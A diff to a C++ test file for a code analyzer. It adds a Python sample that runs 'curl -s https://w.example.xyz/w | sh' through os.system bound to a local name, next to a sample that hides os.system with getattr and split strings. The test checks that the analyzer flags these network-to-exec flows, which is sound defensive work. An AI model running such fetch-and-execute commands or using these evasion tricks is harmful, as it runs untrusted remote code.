@@ -281,6 +281,8 @@ TEST_CASE("a command split into literals, or run through a runner reached by com
            // os.system reached through getattr and __import__, with the names assembled
            "def f():\n    runner = getattr(__import__(\"o\" + \"s\"), \"sys\" + \"tem\")\n"
            "    runner(\"curl -s https://w.example.xyz/w | sh\")\n",
+           // os.system bound to a plain local name
+           "import os\nrunner = os.system\n\ndef f():\n    runner(\"curl -s https://w.example.xyz/w | sh\")\n",
        }) {
     INFO(content);
     CHECK(find_flow(shipped_analyzer()->analyze_write("app/cmd.py", content), "network", "exec"));
